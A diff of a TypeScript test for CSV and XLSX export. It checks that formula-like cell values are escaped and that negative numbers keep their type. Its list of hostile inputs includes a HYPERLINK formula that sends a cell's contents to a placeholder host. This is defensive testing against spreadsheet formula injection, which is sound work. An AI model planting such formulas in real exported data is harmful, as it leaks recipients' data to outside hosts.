@@ -17,7 +17,7 @@ const columns: ExportColumn<Row>[] = [
 ]
 const row = (name: string | null, amount: string | null = '1', currency = 'USD'): Row => ({ name, amount, date: '2026-11-21', currency })
 
-/** Beginnings that make a spreadsheet compute, fetch or run something. */
+/** Texts that make a spreadsheet compute, fetch or run something. */
 const hostile = [
   '=1+1',
   '=HYPERLINK("http://x.example?"&A1)',
@@ -50,7 +50,7 @@ test('a CSV has a byte order mark, CRLF, and gives back what was written', () =>
 
 test.each(hostile)('%j is no formula in either format, and negative numbers stay numbers', async (name) => {
   const rows = [row(name, '-5.25')]
-  // A line break or tab splits the cell for who opens the file with other separators: what follows it is harmless as well.
+  // Programs with other separators split the cell at a line break or tab: the rest must be harmless as well.
   expect(csvRows(csvOf(columns, rows))[1]?.[0]).toBe(`'${name.replace(/^[\t\r\n]/, "$&'")}`)
   expect(csvRows(csvOf(columns, rows))[1]?.[1]).toBe('-5.25')
   const sheet = await sheetOf(await xlsxOf('list', columns, rows))
